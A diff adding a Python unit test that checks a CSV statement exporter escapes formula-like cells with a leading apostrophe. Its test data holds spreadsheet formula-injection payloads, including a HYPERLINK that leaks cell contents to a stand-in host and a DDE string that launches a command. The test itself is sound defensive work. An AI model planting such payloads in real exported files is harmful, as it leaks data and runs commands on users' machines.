@@ -166,6 +166,18 @@ def _read(document: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
+def test_no_cell_of_a_statement_runs_as_a_formula() -> None:
+    """Order references are the provider's text: one that starts like a formula is written with
+    a leading apostrophe; the negative amounts stay numbers."""
+    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/C calc"!A0', "@SUM(A1)", "-2+3"]
+    lines = [Line("capture", ref, f"r-{n}", None, AT, 100) for n, ref in enumerate(attacks)]
+    lines.append(Line("refund", "PO-1", "r-9", "f-9", AT, -500))
+    rows = _read(render_csv("=title", Unit.CNY, lines))
+    assert rows[0] == ["'=title"]
+    assert [r[2] for r in rows[3:3 + len(attacks)]] == ["'" + a for a in attacks]
+    assert rows[3 + len(attacks)][6] == "-5.00" and rows[-1][6] == "-1.00"
+
+
 def test_bom_first_and_the_csv_module_reads_it_back() -> None:
     document = render_csv(TITLE, Unit.CNY, _lines())
     rows = _read(document)
